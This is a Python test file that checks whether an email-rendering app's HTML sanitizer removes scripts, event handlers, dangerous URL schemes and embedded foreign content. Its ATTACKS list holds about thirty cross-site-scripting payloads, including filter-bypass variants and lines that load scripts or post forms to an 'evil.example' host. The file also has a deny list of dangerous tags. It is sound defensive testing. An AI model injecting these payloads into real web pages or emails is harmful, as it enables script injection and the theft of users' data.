"""Author HTML (text, rawHtml, table cells, list items) cannot carry scripts into the mail or
the preview pages: the rendered and personalized document, parsed as a browser would, has no
script, no event handler, no dangerous URL and no foreign embedded content."""

from __future__ import annotations

from typing import Any

import html5lib
import pytest

from owlat.app.lib.rendering import compile_template, personalize, sanitize_html

from .samples import render, sample, text_block

ATTACKS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=https://evil.example/x.js></SCRIPT>",
    '<img src="https://x.example/a.png" onerror="alert(1)">',
    "<img src=x onerror=alert(1)//",
    '<a href="javascript:alert(1)">a</a>',
    '<a href="JaVaScRiPt:alert(1)">b</a>',
    '<a href="jav&#x09;ascript:alert(1)">c</a>',
    '<a href="&#106;avascript:alert(1)">d</a>',
    '<a href=" javascript:alert(1)">e</a>',
    '<a href="vbscript:msgbox(1)">f</a>',
    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">g</a>',
    '<img src="data:image/svg+xml,<svg onload=alert(1)>">',
    "<svg><script>alert(1)</script></svg>",
    "<svg onload=alert(1)>",
    "<math><mi xlink:href='javascript:alert(1)'>m</mi></math>",
    '<iframe src="https://evil.example"></iframe>',
    '<object data="https://evil.example/x.swf"></object>',
    '<embed src="https://evil.example/x.swf">',
    '<form action="https://evil.example"><input name=p></form>',
    "<style>body{background:url(javascript:alert(1))}</style>",
    '<p style="background-image:url(javascript:alert(1));position:fixed;behavior:url(x.htc)">p</p>',
    '<div style="width:expression(alert(1))">w</div>',
    '<div style="color:{{c}};width:1px">css injection through a value</div>',
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    '<a href="https://ok.example" onclick="alert(1)" onmouseover="alert(1)">h</a>',
    '<meta http-equiv="refresh" content="0;url=https://evil.example">',
    '<base href="https://evil.example/">',
    '<link rel="stylesheet" href="https://evil.example/x.css">',
    "<template><script>alert(1)</script></template>",
    '<details open ontoggle="alert(1)">d</details>',
]
DANGEROUS_TAGS = {"script", "iframe", "object", "embed", "form", "input", "svg", "math", "meta"}
DANGEROUS_TAGS |= {"base", "link", "template", "details", "noscript"}


def _walk(node: Any) -> Any:
    yield node
    for child in node:
        yield from _walk(child)


def _assert_harmless(document: str) -> None:
    tree = html5lib.parse(document, namespaceHTMLElements=False)
    body = tree.find("body")
    assert body is not None
    for element in _walk(body):
        if not isinstance(element.tag, str):
            continue  # comments
        assert element.tag not in DANGEROUS_TAGS | {"style"}, element.tag
        for name, value in element.attrib.items():
            assert not name.lower().startswith("on"), (element.tag, name)
            lowered = "".join(value.split()).lower()
            if name in ("href", "src", "background"):
                assert lowered.startswith(("https://", "http://", "mailto:", "tel:")) or not value
            if name == "style":
                assert "url(" not in lowered or element.tag == "td", value
                assert "position" not in lowered and "{{" not in lowered
                assert "expression(" not in lowered and "behavior" not in lowered
                assert "position" not in lowered


@pytest.mark.parametrize("attack", ATTACKS)
def test_author_html_is_sanitized_everywhere_it_goes(attack: str) -> None:
    blocks = [
        text_block(f"<p>before {attack} after</p>", "t"),
        {"id": "r", "type": "rawHtml", "content": {"html": attack}},
        sample("table", rows=[[attack, "1", "2"]], headers=[attack, "b", "c"]),
        sample("list", items=[attack]),
    ]
    rendered = render(blocks)
    _assert_harmless(rendered.html)
    variables = {"firstName": "Ann", "c": "red;position:fixed;top:0"}
    _assert_harmless(personalize(compile_template(rendered), variables).html)
    assert "javascript:" not in rendered.text.lower() and "<script" not in rendered.text.lower()


def test_sanitizer_keeps_formatting_and_placeholders() -> None:
    html = (
        "<p style=\"color:#111;font-size:14px\"><strong>Hi</strong> <em>{{name|'A &amp; B'}}</em>"
        ' <a href="{{link}}">link</a> <a href="https://x.example/{{id}}" target="_blank">x</a>'
        '<br><img src="https://x.example/a.png" alt="a" width="20"></p><ul><li>one</li></ul>'
    )
    assert sanitize_html(html) == (
        "<p style=\"color:#111;font-size:14px\"><strong>Hi</strong> <em>{{name|'A &amp; B'}}</em>"
        ' <a href="{{link}}" rel="noopener noreferrer">link</a>'
        ' <a href="https://x.example/{{id}}" target="_blank" rel="noopener noreferrer">x</a>'
        '<br><img src="https://x.example/a.png" alt="a" width="20"></p><ul><li>one</li></ul>'
    )


def test_style_values_cannot_hold_urls_expressions_or_placeholders() -> None:
    dirty = (
        '<p style="color:{{c}};width:1px;background-color:url(x);height:expression(1);'
        'margin:1px/**/;font-size:12px">x</p>'
    )
    assert sanitize_html(dirty) == '<p style="width:1px;font-size:12px">x</p>'


def test_author_html_cannot_forge_condition_markers() -> None:
    forged = '<!--owlat:if {"variable":"vip","operator":"exists"}-->secret<!--owlat:endif-->'
    rendered = render([text_block(f"<p>{forged}</p>")])
    assert "owlat:if" not in rendered.html
    assert "secret" in personalize(compile_template(rendered), {}).html
